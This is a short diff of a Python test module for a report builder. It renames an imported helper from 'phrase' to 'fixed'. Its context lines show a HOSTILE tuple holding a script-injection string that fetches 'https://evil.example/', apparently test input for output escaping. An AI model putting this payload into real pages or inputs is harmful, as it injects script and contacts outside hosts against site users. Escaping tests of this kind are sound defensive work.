@@ -30,8 +30,8 @@ from dpia.report.page import Tone
 from dpia.report.statement import Ground
 from dpia.report.statement import GroundKind
 from dpia.report.statement import Statement
+from dpia.report.statement import fixed
 from dpia.report.statement import label
-from dpia.report.statement import phrase
 
 HOSTILE = (
     '</title><script>document.title="owned";fetch("https://evil.example/")</script>',
@@ -57,7 +57,7 @@ def fact(text: str, *cites: str) -> Statement:
 
 def said(text: str) -> Statement:
     """Make a fixed sentence."""
-    return phrase(text, "sample")
+    return fixed(text, "sample")
 
 
 def cell(tone: Tone, *lines: str, cites: tuple[str, ...] = ()) -> Cell:
